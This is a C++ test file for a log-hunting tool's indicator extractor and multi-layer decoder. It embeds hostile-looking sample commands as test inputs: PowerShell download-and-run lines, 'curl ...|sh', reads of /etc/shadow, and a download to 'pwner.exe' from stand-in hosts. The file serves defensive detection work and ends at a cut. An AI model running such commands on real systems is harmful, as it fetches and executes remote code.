// IocExtractor, Decoder and IocDetector on minimal lines written for each
// behaviour (the corpus suites are in ioc_corpus_test.cc).
#include <archive.h>
#include <archive_entry.h>
#include <gtest/gtest.h>
#include <unistd.h>
#include <zlib.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <set>
#include <string>
#include <utility>

#include "daemon/config.h"
#include "daemon/pipeline.h"
#include "detectors/decode/decoder.h"
#include "detectors/ioc/ioc_detector.h"
#include "detectors/ioc/ioc_extractor.h"

namespace loghunt {
namespace {

using Found = std::set<std::pair<std::string, std::string>>;

Found Extract(std::string_view text, bool defanged = true) {
  IocOptions options;
  options.defanged = defanged;
  IocExtractor extractor(IocPatterns::Default(), options);
  Arena arena;
  std::vector<Ioc> iocs;
  extractor.Extract(text, arena, &iocs);
  Found found;
  for (const Ioc& i : iocs) found.insert({std::string(IocTypeName(i.type)), std::string(i.value)});
  return found;
}

std::string Base64(std::string_view bytes) {
  static const char* kAlphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t i = 0;
  for (; i + 2 < bytes.size(); i += 3) {
    uint32_t v = static_cast<uint8_t>(bytes[i]) << 16 | static_cast<uint8_t>(bytes[i + 1]) << 8 |
                 static_cast<uint8_t>(bytes[i + 2]);
    for (int k = 3; k >= 0; --k) out += kAlphabet[(v >> (6 * k)) & 63];
  }
  if (i + 1 == bytes.size()) {
    uint32_t v = static_cast<uint8_t>(bytes[i]) << 16;
    out += kAlphabet[v >> 18];
    out += kAlphabet[(v >> 12) & 63];
    out += "==";
  } else if (i + 2 == bytes.size()) {
    uint32_t v = static_cast<uint8_t>(bytes[i]) << 16 | static_cast<uint8_t>(bytes[i + 1]) << 8;
    out += kAlphabet[v >> 18];
    out += kAlphabet[(v >> 12) & 63];
    out += kAlphabet[(v >> 6) & 63];
    out += '=';
  }
  return out;
}

std::string Utf16le(std::string_view ascii) {
  std::string out;
  for (char c : ascii) {
    out += c;
    out += '\0';
  }
  return out;
}

std::string Gzip(std::string_view data, int window_bits = 15 + 16) {
  z_stream zs{};
  deflateInit2(&zs, 9, Z_DEFLATED, window_bits, 9, Z_DEFAULT_STRATEGY);
  std::string out(deflateBound(&zs, data.size()) + 64, '\0');
  zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
  zs.avail_in = static_cast<uInt>(data.size());
  zs.next_out = reinterpret_cast<Bytef*>(out.data());
  zs.avail_out = static_cast<uInt>(out.size());
  deflate(&zs, Z_FINISH);
  out.resize(zs.total_out);
  deflateEnd(&zs);
  return out;
}

std::string Zip(const std::string& name, std::string_view data) {
  struct archive* a = archive_write_new();
  archive_write_set_format_zip(a);
  std::string out(data.size() / 100 + 64 * 1024, '\0');
  size_t used = 0;
  archive_write_open_memory(a, out.data(), out.size(), &used);
  struct archive_entry* e = archive_entry_new();
  archive_entry_set_pathname(e, name.c_str());
  archive_entry_set_size(e, static_cast<la_int64_t>(data.size()));
  archive_entry_set_filetype(e, AE_IFREG);
  archive_entry_set_perm(e, 0644);
  archive_write_header(a, e);
  archive_write_data(a, data.data(), data.size());
  archive_entry_free(e);
  archive_write_close(a);
  archive_write_free(a);
  out.resize(used);
  return out;
}

constexpr std::string_view kSeedPlain =
    "Invoke-WebRequest -Uri \"http://38.75.137.9:9088/static/encrypt.min.js\" -OutFile "
    "\"c:\\pwner.exe\"";

TEST(IocExtractor, FindsTheSeedIndicatorsInPlainText) {
  Found f = Extract(kSeedPlain);
  EXPECT_TRUE(f.count({"ipv4", "38.75.137.9"}));
  EXPECT_TRUE(f.count({"url", "http://38.75.137.9:9088/static/encrypt.min.js"}));
  EXPECT_TRUE(f.count({"windows_path", "c:\\pwner.exe"}));
  // msticpy also reports //38.75.137.9:9088 and /static/encrypt.min.js" as linux_path.
  for (const auto& [type, value] : f) EXPECT_NE(type, "linux_path") << value;
  EXPECT_FALSE(f.count({"dns", "encrypt.min.js"}));
}

TEST(IocExtractor, Ipv4NeedsOctetsUpTo255AndNoDigitOrDotNeighbours) {
  EXPECT_TRUE(Extract("ping 8.8.8.8 now").count({"ipv4", "8.8.8.8"}));
  EXPECT_TRUE(Extract("connect to 10.0.0.1.").count({"ipv4", "10.0.0.1"}));
  EXPECT_TRUE(Extract("999.1.1.1 1.2.3.4.5 10.0.17763.1").empty());
  // A range "a-b" gives both ends (msticpy too); not when an end is no address.
  EXPECT_EQ(Extract("10.0.0.1-10.0.0.255"), (Found{{"ipv4", "10.0.0.1"}, {"ipv4", "10.0.0.255"}}));
  EXPECT_EQ(Extract("range 192.168.1.10-192.168.1.20 allowed", /*defanged=*/false),
            (Found{{"ipv4", "192.168.1.10"}, {"ipv4", "192.168.1.20"}}));
  EXPECT_EQ(Extract("10[.]0.0.1-10.0.0[.]2"), (Found{{"ipv4", "10.0.0.1"}, {"ipv4", "10.0.0.2"}}));
  EXPECT_TRUE(Extract("10.0.0.1-10.0.0.256 1.2.3.4-5.6.7.8.9").empty());
}

TEST(IocExtractor, Ipv6AcceptsCompressedAndEmbeddedFormsButNotTimesOrMacs) {
  Found f = Extract("a 2001:db8::8a2e:370:7334 b ::ffff:192.0.2.128 c fe80::1");
  EXPECT_TRUE(f.count({"ipv6", "2001:db8::8a2e:370:7334"}));
  EXPECT_TRUE(f.count({"ipv6", "::ffff:192.0.2.128"}));
  EXPECT_TRUE(f.count({"ipv6", "fe80::1"}));
  EXPECT_TRUE(Extract("at 12:30:45 from aa:bb:cc:dd:ee:ff std::string").empty());
  EXPECT_TRUE(Extract("-ip6:2001:db8::1").count({"ipv6", "2001:db8::1"}));
}

TEST(IocExtractor, DomainsMustEndInAPublicSuffix) {
  EXPECT_TRUE(Extract("a domain.like.uk in it").count({"dns", "domain.like.uk"}));
  EXPECT_TRUE(Extract("a news.ycombinator.com in it").count({"dns", "news.ycombinator.com"}));
  EXPECT_TRUE(Extract("a domain.like.iandom and powershell.exe").empty());
}

TEST(IocExtractor, DefangedSpellingsAreRefangedAndFlagged) {
  IocExtractor extractor;
  Arena arena;
  std::vector<Ioc> iocs;
  extractor.Extract("get hxxps://evil[.]example[.]com/x and mail bob[at]evil(dot)org 1.2[.]3.4",
                    arena, &iocs);
  Found f;
  for (const Ioc& i : iocs) {
    f.insert({std::string(IocTypeName(i.type)), std::string(i.value)});
    EXPECT_TRUE(i.defanged) << i.value;
  }
  EXPECT_TRUE(f.count({"url", "https://evil.example.com/x"}));
  EXPECT_TRUE(f.count({"dns", "evil.example.com"}));
  EXPECT_TRUE(f.count({"email", "bob@evil.org"}));
  EXPECT_TRUE(f.count({"ipv4", "1.2.3.4"}));
  EXPECT_TRUE(Extract("1.2[.]3.4 hxxp://a[.]com", /*defanged=*/false).empty());
  // Plain mode (the intel detector's) reports no value with "[.]", nor a part of one.
  EXPECT_TRUE(Extract("ftp://www[.]virustotal.com/x http://evil[.]com", false).empty());
  EXPECT_TRUE(Extract("www(dot)virustotal.com sub.evil.com[.]ru", false).empty());
  EXPECT_EQ(Extract("http://[2001:db8::1]:8080/x", false),
            (Found{{"url", "http://[2001:db8::1]:8080/x"}, {"ipv6", "2001:db8::1"}}));
}

// A defanged spelling makes the network types come from a second pass over
// the fanged copy; the paths of the first pass used to fill the cap alone.
TEST(IocExtractor, TheCapKeepsTheFirstIndicatorsByPositionWhenTheLineIsDefanged) {
  std::string line = "hxxp://evil[.]com/x 8.8.8.8";
  for (int i = 0; i < 1200; ++i) line += " /tmp/d" + std::to_string(i) + "/f";
  IocExtractor extractor;
  Arena arena;
  std::vector<Ioc> iocs;
  extractor.Extract(line, arena, &iocs);
  ASSERT_EQ(iocs.size(), 1000u);
  EXPECT_EQ(iocs[0].value, "http://evil.com/x");
  EXPECT_EQ(iocs[1].value, "evil.com");
  EXPECT_EQ(iocs[2].value, "8.8.8.8");
  EXPECT_EQ(iocs[3].value, "/tmp/d0/f");
  EXPECT_EQ(iocs.back().value, "/tmp/d996/f");
}

// Spellings of python-iocextract's and ioc-fanger's suites (each failed before
// the fang pass).
TEST(IocExtractor, MoreDefangSpellingsAreRead) {
  EXPECT_TRUE(Extract("10[[[[.]]]]10(((.]]]]10\\.10").count({"ipv4", "10.10.10.10"}));
  EXPECT_TRUE(Extract("words1(.)1(.)1(.)1words").count({"ipv4", "1.1.1.1"}));
  EXPECT_TRUE(Extract("5[,]6[,]7(,)8").count({"ipv4", "5.6.7.8"}));
  EXPECT_TRUE(Extract("example-dot-ru example{DOT}com").count({"dns", "example.ru"}));
  EXPECT_TRUE(Extract("www].]example].]com").count({"dns", "www.example.com"}));
  EXPECT_TRUE(Extract("evil^.com").count({"dns", "evil.com"}));
  EXPECT_TRUE(Extract("foo 1<.>1<.>1<.>1 bar.").count({"ipv4", "1.1.1.1"}));
  EXPECT_TRUE(Extract("[www].example.com").count({"dns", "www.example.com"}));
  EXPECT_TRUE(Extract("http:// example .com/a").count({"url", "http://example.com/a"}));
  EXPECT_TRUE(Extract("ftx://example[.com/a").count({"url", "ftp://example.com/a"}));
  EXPECT_TRUE(Extract("XXXX://example.com").count({"url", "http://example.com"}));
  EXPECT_TRUE(Extract("(http)://example.com/x").count({"url", "http://example.com/x"}));
  EXPECT_TRUE(Extract("https:/// example.com").count({"url", "https://example.com"}));
  EXPECT_TRUE(Extract("http://example(.)com(/)test").count({"url", "http://example.com/test"}));
  EXPECT_TRUE(
      Extract("https://example.com\\/test.php").count({"url", "https://example.com/test.php"}));
  EXPECT_TRUE(
      Extract("rget=\"http%3A%2F%2Fexample%2Ecom%2Fa\"").count({"url", "http://example.com/a"}));
  EXPECT_TRUE(Extract("myuser @ example [ . ] com").count({"email", "myuser@example.com"}));
  EXPECT_TRUE(Extract("myuser [ at ] example.com").count({"email", "myuser@example.com"}));
  EXPECT_TRUE(Extract("myuser at example dot com").count({"email", "myuser@example.com"}));
  EXPECT_TRUE(Extract("foo AT bar.com").count({"email", "foo@bar.com"}));
  EXPECT_TRUE(Extract("me(arroba)example(punto)com").count({"email", "me@example.com"}));
  EXPECT_TRUE(Extract("myuser/AT/example/DOT/com").count({"email", "myuser@example.com"}));
  // Only defanged mode reads them; plain mode stays literal.
  EXPECT_TRUE(Extract("10[[[[.]]]]10(((.]]]]10\\.10", /*defanged=*/false).empty());
}

TEST(IocExtractor, FangingLeavesPlainTextAlone) {
  // Prose and command lines: no email from "failed at", no dot from "end. Next".
  Found f = Extract("login failed at host.example.com. Next try (see foo.bar).");
  EXPECT_FALSE(f.count({"email", "failed@host.example.com"}));
  EXPECT_TRUE(f.count({"dns", "host.example.com"}));
  EXPECT_FALSE(f.count({"dns", "com.next"}));
  EXPECT_TRUE(Extract("x format)bar.com").count({"dns", "bar.com"}));
  EXPECT_FALSE(Extract("x format)bar.com").count({"email", "form@bar.com"}));
  // A URL's own brackets and query stay as written, not defanged.
  IocExtractor extractor;
  Arena arena;
  std::vector<Ioc> iocs;
  extractor.Extract(
      "https://en.wikipedia.org/wiki/Foo_(bar).html?u=http%3A%2F%2Fx.com cat .ssh/config", arena,
      &iocs);
  ASSERT_FALSE(iocs.empty());
  EXPECT_EQ(iocs[0].value, "https://en.wikipedia.org/wiki/Foo_(bar).html?u=http%3A%2F%2Fx.com");
  EXPECT_FALSE(iocs[0].defanged);
  // A blank before a path ends the URL: "curl http://x.com /tmp/a" has two arguments.
  Found c = Extract("curl http://evil.com /tmp/a");
  EXPECT_TRUE(c.count({"url", "http://evil.com"}));
  EXPECT_TRUE(c.count({"linux_path", "/tmp/a"}));
}

// "example .com" is a defanged dot; a blank and a dot after a dotted name
// start the next argument (a dot file) and are read as --no-defang reads them.
TEST(IocExtractor, ABlankBeforeADotAfterADottedNameIsNoSeparator) {
  for (std::string_view line :
       {"ping evil.com .hidden", "scp a.txt admin@evil.com .ssh/authorized_keys", "copy x.dat .net",
        "first.last@sub.example.org .lead@example.com", "ping 1.1.1.1 .x"}) {
    EXPECT_EQ(Extract(line), Extract(line, /*defanged=*/false)) << line;
  }
  EXPECT_TRUE(Extract("ping evil.com .hidden").count({"dns", "evil.com"}));
  EXPECT_TRUE(
      Extract("scp a.txt admin@evil.com .ssh/authorized_keys").count({"email", "admin@evil.com"}));
  EXPECT_TRUE(Extract("copy x.dat .net").empty());
  EXPECT_TRUE(Extract("ping 1.1.1.1 .x").count({"ipv4", "1.1.1.1"}));
  EXPECT_TRUE(Extract("see example .com now").count({"dns", "example.com"}));
}

// ":///" is a defanged "://" for other schemes, but a file URL without host
// ("file:///etc/passwd") is written so (msticpy reports it as written).
TEST(IocExtractor, AFileUrlWithoutHostIsPlain) {
  for (bool defanged : {true, false}) {
    IocOptions options;
    options.defanged = defanged;
    IocExtractor extractor(IocPatterns::Default(), options);
    Arena arena;
    std::vector<Ioc> iocs;
    extractor.Extract("curl file:///etc/shadow", arena, &iocs);
    ASSERT_EQ(iocs.size(), 1u) << defanged;
    EXPECT_EQ(iocs[0].type, IocType::kUrl);
    EXPECT_EQ(iocs[0].value, "file:///etc/shadow");
    EXPECT_FALSE(iocs[0].defanged);
    EXPECT_EQ(iocs[0].offset, 5u);
  }
  EXPECT_TRUE(Extract("file:///C:/Windows/x.exe").count({"url", "file:///C:/Windows/x.exe"}));
  EXPECT_TRUE(Extract("file:/// x").empty());
  EXPECT_TRUE(Extract("https:/// example.com").count({"url", "https://example.com"}));
}

// "(http)://" is a defanged scheme; "(http://" is a URL in brackets.
TEST(IocExtractor, AUrlInBracketsIsNotDefanged) {
  for (std::string_view line :
       {"(http://evil.com/x)", "[http://evil.com/x]", "see [link](http://evil.com/x)."}) {
    IocExtractor extractor;
    Arena arena;
    std::vector<Ioc> iocs;
    extractor.Extract(line, arena, &iocs);
    ASSERT_FALSE(iocs.empty()) << line;
    EXPECT_EQ(iocs[0].value, "http://evil.com/x") << line;
    for (const Ioc& i : iocs) EXPECT_FALSE(i.defanged) << line << ": " << i.value;
  }
}

TEST(IocExtractor, UrlBoundaries) {
  EXPECT_TRUE(
      Extract("https://example.com/abc,False,False").count({"url", "https://example.com/abc"}));
  EXPECT_TRUE(
      Extract("https://example.com/a?ids=1,2").count({"url", "https://example.com/a?ids=1,2"}));
  EXPECT_TRUE(Extract("[https://i.imgur.com/a.png](https://i.imgur.com/a.png)")
                  .count({"url", "https://i.imgur.com/a.png"}));
  EXPECT_TRUE(
      Extract("as http://example.com/test\xc2\xa0words").count({"url", "http://example.com/test"}));
  EXPECT_TRUE(Extract("https://+test+/").empty());
  // A ')' only when unbalanced.
  EXPECT_EQ(Extract("see http://evil.com/a_(b)) now"),
            (Found{{"url", "http://evil.com/a_(b)"}, {"dns", "evil.com"}}));
  EXPECT_TRUE(Extract("(see http://evil.com/a_(b))").count({"url", "http://evil.com/a_(b)"}));
  EXPECT_TRUE(Extract("(see http://evil.com/a)").count({"url", "http://evil.com/a"}));
  // Scheme-less: a host followed by a path, but not a CIDR block.
  Found f = Extract("see github.com/a/b and 10.0.0.0/8 and 1.2.3.4/x.php");
  EXPECT_TRUE(f.count({"url", "github.com/a/b"}));
  EXPECT_TRUE(f.count({"url", "1.2.3.4/x.php"}));
  EXPECT_TRUE(Extract("192[.]168[.]0[.]1:9090/url").count({"url", "192.168.0.1:9090/url"}));
  EXPECT_FALSE(f.count({"url", "10.0.0.0/8"}));
}

TEST(IocExtractor, EmailDomainsNeedNoPublicSuffixButDnsDoes) {
  Found f = Extract("mail myuser@example.com.tld now");
  EXPECT_TRUE(f.count({"email", "myuser@example.com.tld"}));
  EXPECT_FALSE(f.count({"dns", "example.com.tld"}));
  EXPECT_TRUE(Extract("o_o.lgms.nl").empty());  // not "o.lgms.nl"
  EXPECT_TRUE(Extract("url=%2Fevil.com").count({"dns", "evil.com"}));
}

// Like "o_o.lgms.nl": the ASCII tail of a name glued to a non-ASCII letter
// or a NUL is a wrong name ("ypal.com" of "p\u0430ypal.com").
TEST(IocExtractor, ANameGluedToANonAsciiLetterOrNulIsNoDomain) {
  EXPECT_TRUE(Extract("p\xd0\xb0ypal.com").empty());
  EXPECT_TRUE(Extract(std::string_view("ev\0il.com", 10)).empty());
  EXPECT_TRUE(Extract("evil.com\xd0\xb0 x").empty());
  Found u = Extract("http://p\xd0\xb0ypal.com/login");
  EXPECT_EQ(u, (Found{{"url", "http://p\xd0\xb0ypal.com/login"}}));
  // Spaces and punctuation are no letters: NBSP, curly quotes.
  EXPECT_TRUE(Extract("\xc2\xa0"
                      "evil.com")
                  .count({"dns", "evil.com"}));
  EXPECT_TRUE(Extract("\xe2\x80\x9c"
                      "evil.com\xe2\x80\x9d")
                  .count({"dns", "evil.com"}));
}

// WebDAV UNC paths name a host and a port or SSL after '@' (msticpy reports
// the host); the name before the '@' is no email local part there.
TEST(IocExtractor, AWebDavUncHostIsADomain) {
  for (bool defanged : {true, false}) {
    EXPECT_TRUE(Extract("rundll32 \\\\evil.com@SSL\\DavWWWRoot\\x.dll,Start", defanged)
                    .count({"dns", "evil.com"}))
        << defanged;
    EXPECT_TRUE(Extract("net use \\\\evil.com@80\\x", defanged).count({"dns", "evil.com"}))
        << defanged;
  }
  // An email is still one.
  EXPECT_TRUE(Extract("mail first.last@evil.com").count({"email", "first.last@evil.com"}));
  EXPECT_FALSE(Extract("mail first.last@evil.com").count({"dns", "first.last"}));
}

TEST(IocExtractor, HashesAreBoundedByNonHexWithoutSwallowingANeighbour) {
  std::string md5a(32, 'a'), md5b(32, 'b'), sha1(40, 'c'), sha256(64, 'd');
  Found f = Extract(md5a + "," + md5b + " x=" + sha1 + "h " + sha256 + " " + std::string(33, 'e'));
  EXPECT_TRUE(f.count({"md5", md5a}));
  EXPECT_TRUE(f.count({"md5", md5b}));
  EXPECT_TRUE(f.count({"sha1", sha1}));
  EXPECT_TRUE(f.count({"sha256", sha256}));
  EXPECT_EQ(f.size(), 4u);
}

TEST(IocExtractor, PathsFollowMsticpyRootsWithoutUrlParts) {
  Found w = Extract(R"(c:\one\path\myprocess -file:"..\another\file" -file:"\\uncpath\file")");
  EXPECT_TRUE(w.count({"windows_path", R"(c:\one\path\myprocess)"}));
  EXPECT_TRUE(w.count({"windows_path", R"(..\another\file)"}));
  EXPECT_TRUE(w.count({"windows_path", R"(\\uncpath\file)"}));
  Found l = Extract("/bin/bash --file:./bish --file:/bin/bash --file:../../bosh /c");
  EXPECT_EQ(
      l,
      (Found{{"linux_path", "/bin/bash"}, {"linux_path", "./bish"}, {"linux_path", "../../bosh"}}));
}

TEST(IocExtractor, IpClassesAreSet) {
  IocExtractor extractor;
  Arena arena;
  std::vector<Ioc> iocs;
  extractor.Extract("10.1.2.3 127.0.0.1 169.254.1.1 224.0.0.1 192.0.2.1 8.8.8.8 ::1", arena, &iocs);
  std::vector<std::string> classes;
  for (const Ioc& i : iocs) classes.emplace_back(IpClassName(i.ip_class));
  EXPECT_EQ(classes, (std::vector<std::string>{"private", "loopback", "link_local", "multicast",
                                               "reserved", "public", "loopback"}));
  // NAT64 stands for the IPv4 host it embeds (64:ff9b::/96 is global); the
  // local-use NAT64 prefix is not.
  iocs.clear();
  extractor.Extract("64:ff9b::1.2.3.4 64:ff9b::10.0.0.1 64:ff9b:1::5", arena, &iocs);
  classes.clear();
  for (const Ioc& i : iocs) {
    if (i.type == IocType::kIpv6) classes.emplace_back(IpClassName(i.ip_class));
  }
  EXPECT_EQ(classes, (std::vector<std::string>{"public", "private", "private"}));
}

// An address glued to a word is no address, and not its tail either
// ("x2001:db8::1" gave db8::1, another address); a short label before a
// colon is a prefix ("ip6:", "eth0:").
TEST(IocExtractor, AnIpv6GluedToAWordIsNotCutToAWrongAddress) {
  for (bool defanged : {true, false}) {
    Found glued = Extract("x2001:db8::1 y", defanged);
    EXPECT_FALSE(glued.count({"ipv6", "db8::1"})) << defanged;
    EXPECT_TRUE(Extract("ip6:2001:db8::1", defanged).count({"ipv6", "2001:db8::1"}));
    EXPECT_TRUE(Extract("eth0:fe80::1", defanged).count({"ipv6", "fe80::1"}));
  }
}

TEST(IocExtractor, BadInputYieldsNothingAndStaysBounded) {
  std::string junk;
  for (int i = 0; i < 200000; ++i) junk += "[.";
  EXPECT_TRUE(Extract(junk).empty());
  std::string dots(300000, '.');
  EXPECT_TRUE(Extract(dots).empty());
  std::string binary;
  for (int i = 0; i < 65536; ++i) binary += static_cast<char>(i * 7919);
  Extract(binary);  // must not crash
  EXPECT_TRUE(Extract("").empty());
}

TEST(Decoder, DecodesTheSeedAsBase64AndAsUtf16le) {
  Decoder decoder;
  std::string ascii = "powershell -enc " + Base64(kSeedPlain);
  const auto& a = decoder.Decode(ascii);
  ASSERT_EQ(a.size(), 1u);
  EXPECT_EQ(a[0].chain, "base64");
  EXPECT_EQ(a[0].text, kSeedPlain);
  EXPECT_EQ(a[0].offset, 16u);
  std::string wide = "powershell -enc " + Base64(Utf16le(kSeedPlain));
  const auto& w = decoder.Decode(wide);
  ASSERT_EQ(w.size(), 1u);
  EXPECT_EQ(w[0].chain, "base64 > utf16le");
  EXPECT_EQ(w[0].text, kSeedPlain);
  EXPECT_EQ(w[0].depth, 2);
}

TEST(Decoder, HandlesUrlSafeUnpaddedWrappedHexAndNested) {
  Decoder decoder;
  std::string text = "this text hides http://evil.example.com/?a=b~~~ here";
  std::string b64 = Base64(text);
  std::string url = b64;
  std::replace(url.begin(), url.end(), '+', '-');
  std::replace(url.begin(), url.end(), '/', '_');
  while (!url.empty() && url.back() == '=') url.pop_back();
  const auto& u = decoder.Decode("x " + url + " y");
  ASSERT_EQ(u.size(), 1u);
  EXPECT_EQ(u[0].text, text);
  std::string wrapped = b64.substr(0, 20) + "\r\n" + b64.substr(20);
  ASSERT_EQ(decoder.Decode(wrapped).size(), 1u);
  EXPECT_EQ(decoder.Decode(wrapped)[0].text, text);
  std::string hex;
  for (unsigned char c : text) {
    static const char* d = "0123456789abcdef";
    hex += d[c >> 4];
    hex += d[c & 15];
  }
  const auto& h = decoder.Decode("data=" + hex);
  ASSERT_EQ(h.size(), 1u);
  EXPECT_EQ(h[0].chain, "hex");
  std::string nested = "run " + Base64("echo " + Base64(Gzip(Utf16le(text))) + " | x");
  const auto& n = decoder.Decode(nested);
  ASSERT_EQ(n.size(), 2u);
  EXPECT_EQ(n[1].chain, "base64 > base64 > gzip > utf16le");
  EXPECT_EQ(n[1].parent, 0);
  EXPECT_EQ(n[1].text, text);
}

TEST(Decoder, ReadsZipMembersAndRawDeflate) {
  Decoder decoder;
  std::string text = "payload: Invoke-Expression http://10.9.8.7/a.ps1";
  const auto& z = decoder.Decode("blob " + Base64(Zip("inner.txt", text)));
  ASSERT_EQ(z.size(), 1u);
  EXPECT_EQ(z[0].chain, "base64 > zip");
  EXPECT_EQ(z[0].name, "inner.txt");
  EXPECT_EQ(z[0].text, text);
  const auto& d = decoder.Decode("blob " + Base64(Gzip(text, -15)));
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0].chain, "base64 > deflate");
}

// Decoded bytes never start a program. libarchive reads lrzip, grzip and lzop
// (and lzo, lz4 ... when built without the library) through an external
// program found on PATH, fed the bytes on stdin: with every filter enabled, a
// base64 blob in a log line (a tar header after such a magic) made the daemon
// run `lrzip -d -q` on attacker bytes (as root in the audisp plugin).
TEST(Decoder, DecodedBytesNeverStartAProgram) {
  const std::string dir = testing::TempDir() + "decoder-path-" + std::to_string(getpid());
  std::filesystem::create_directories(dir);
  const std::string marker = dir + "/ran";
  for (const char* tool : {"lrzip", "grzip", "lzop", "lz4", "zstd", "lzip", "lrz"}) {
    const std::string path = dir + "/" + tool;
    std::ofstream(path) << "#!/bin/sh\necho " << tool << " >> " << marker << "\ncat > /dev/null\n";
    std::filesystem::permissions(path, std::filesystem::perms::owner_all);
  }
  const char* old_path = std::getenv("PATH");
  const std::string saved = old_path != nullptr ? old_path : "";
  setenv("PATH", (dir + ":" + saved).c_str(), 1);
  Decoder decoder;
  for (const std::string& magic :
       {std::string("LRZI\0\x06", 6), std::string("GRZipII\0\x02\x04:)", 12),
        std::string("\x89LZO\0\r\n\x1a\n", 9)}) {
    std::string blob = magic;
    blob.resize(257, '\0');
    blob += std::string(
        "ustar\0"
        "00",
        8);
    blob.resize(1024, '\0');
    decoder.Decode("x " + Base64(blob));
  }
  setenv("PATH", saved.c_str(), 1);
  const bool ran = std::filesystem::exists(marker);
  std::string which;
  if (ran) std::getline(std::ifstream(marker), which);
  std::filesystem::remove_all(dir);
  EXPECT_FALSE(ran) << "the decoder ran " << which;
}

TEST(Decoder, ZipBombStaysWithinTheByteBudget) {
  std::string zeros(10 << 20, 'A');
  std::string bomb = Base64(Zip("bomb.txt", zeros));
  std::string gz = Base64(Gzip(zeros));
  DecoderOptions options;
  options.byte_budget = 1 << 20;
  Decoder decoder(options);
  for (const std::string& b : {bomb, gz}) {
    const auto& layers = decoder.Decode(b);
    EXPECT_LE(decoder.bytes_used(), options.byte_budget);
    EXPECT_TRUE(decoder.budget_exhausted());
    ASSERT_FALSE(layers.empty());
    EXPECT_TRUE(layers[0].truncated);
    EXPECT_LE(layers[0].text.size(), options.byte_budget);
  }
}

TEST(Decoder, DepthIsBounded) {
  std::string s = "echo hello from a deeply nested payload http://deep.example.com";
  for (int i = 0; i < 25; ++i) s = Base64(s);
  DecoderOptions options;
  options.max_depth = 20;
  Decoder decoder(options);
  const auto& layers = decoder.Decode(s);
  ASSERT_FALSE(layers.empty());
  for (const auto& l : layers) EXPECT_LE(l.depth, 20);
  EXPECT_EQ(layers.size(), 20u);
}

// Every step counts toward max_depth, compression and UTF-16 as well as
// base64: no layer is deeper (base64 > gzip came out at depth 2 with max 1).
TEST(Decoder, EveryStepCountsTowardTheDepth) {
  const std::string text = "echo a payload for http://deep.example.com and more words";
  for (const std::string& encoded : {Base64(Gzip(text)), Base64(Utf16le(text)),
                                     Base64(Zip("x.txt", text)), Base64(Gzip(Gzip(text)))}) {
    for (int max_depth : {1, 2, 3}) {
      DecoderOptions options;
      options.max_depth = max_depth;
      Decoder decoder(options);
      for (const auto& l : decoder.Decode(encoded)) {
        EXPECT_LE(l.depth, max_depth) << l.chain;
        EXPECT_EQ(static_cast<size_t>(l.depth),
                  static_cast<size_t>(std::count(l.chain.begin(), l.chain.end(), '>')) + 1)
            << l.chain;
      }
    }
  }
  DecoderOptions two;
  two.max_depth = 2;
  Decoder decoder(two);
  const auto& layers = decoder.Decode(Base64(Gzip(text)));
  ASSERT_EQ(layers.size(), 1u);
  EXPECT_EQ(layers[0].chain, "base64 > gzip");
  EXPECT_EQ(layers[0].text, text);
}

TEST(Decoder, HexNoiseIsNoDeflateStream) {
  DecoderOptions options;
  options.byte_budget = 1024;
  Decoder decoder(options);
  for (const auto& l : decoder.Decode(std::string(8192, 'A'))) {
    EXPECT_EQ(l.chain.find("deflate"), std::string_view::npos) << l.chain;
  }
}

TEST(Decoder, WordsAndGarbageDoNotDecode) {
  Decoder decoder;
  EXPECT_TRUE(decoder.Decode("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop")
                  .empty());
  EXPECT_TRUE(decoder.Decode("ABCDEFGHIJKLMNOPQRSTUVWXYZABCDEFGHIJKLMNOPQRSTUVWXYZ").empty());
  EXPECT_TRUE(decoder.Decode(std::string(32, 'a')).empty());  // an md5, not hex text
}

// Sysmon fields decoded to junk "deflate" layers: a GUID's bytes ended a raw
// deflate "stream" after 3 of its 16 bytes ("HHHH..."), an MD5 inflated to
// "E" (45 in 30,000 Sysmon-like lines); the junk also replaced them in the
// expanded text. A raw deflate stream must use its input and give more than
// a few bytes.
TEST(Decoder, GuidsAndHashesAreNoDeflateStreams) {
  Decoder decoder;
  for (const char* text :
       {"ProcessGuid={88AFAD7D-8D15-4B0F-91CE-7D9B97420A07}",
        "Hashes=MD5=7305B0C9016EA6D4C5EB04F7A330060C",
        "SHA256=A2C2E6E0F3B4C1D7F6E5D4C3B2A1908172635445362718090A0B0C0D0E0F1011"}) {
    for (const auto& l : decoder.Decode(text)) {
      EXPECT_EQ(l.chain.find("deflate"), std::string_view::npos) << text << ": " << l.chain;
    }
  }
  // A real raw deflate stream still decodes.
  const std::string payload = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')";
  bool found = false;
  for (const auto& l : decoder.Decode("-c " + Base64(Gzip(payload, -15)))) {
    found = found || (l.chain == "base64 > deflate" && l.text == payload);
  }
  EXPECT_TRUE(found);
}

// certutil -encode / PEM output: base64 wrapped at 64 columns between armor
// lines. Joined across the line breaks, "CERTIFICATE-----" and "-----END" made
// the run URL-safe junk and the payload was missed (msticpy decodes it).
TEST(Decoder, ReadsArmoredWrappedBase64) {
  const std::string payload =
      "powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
      "'http://evil.example.com/stage2.ps1')\"";
  const std::string b64 = Base64(payload);
  std::string wrapped;
  for (size_t k = 0; k < b64.size(); k += 64) wrapped += b64.substr(k, 64) + "\r\n";
  const std::string pem =
      "-----BEGIN CERTIFICATE-----\r\n" + wrapped + "-----END CERTIFICATE-----\r\n";
  Decoder decoder;
  bool direct = false;
  for (const auto& l : decoder.Decode(pem))
    direct = direct || (l.chain == "base64" && l.text == payload);
  EXPECT_TRUE(direct);
  bool nested = false;
  for (const auto& l : decoder.Decode("certutil " + Base64(pem))) {
    nested = nested || (l.chain == "base64 > base64" && l.text == payload);
  }
  EXPECT_TRUE(nested);
}

// gzip members follow one another in one stream (gzip(1), Python, .NET read
// them all); only the first was decoded.
TEST(Decoder, ReadsEveryGzipMember) {
  Decoder decoder;
  const auto layers =
      decoder.Decode("x " + Base64(Gzip("echo ok ") + Gzip("curl http://two.example.org/x|sh")));
  bool found = false;
  for (const auto& l : layers) {
    found = found ||
            (l.chain == "base64 > gzip" && l.text == "echo ok curl http://two.example.org/x|sh");
  }
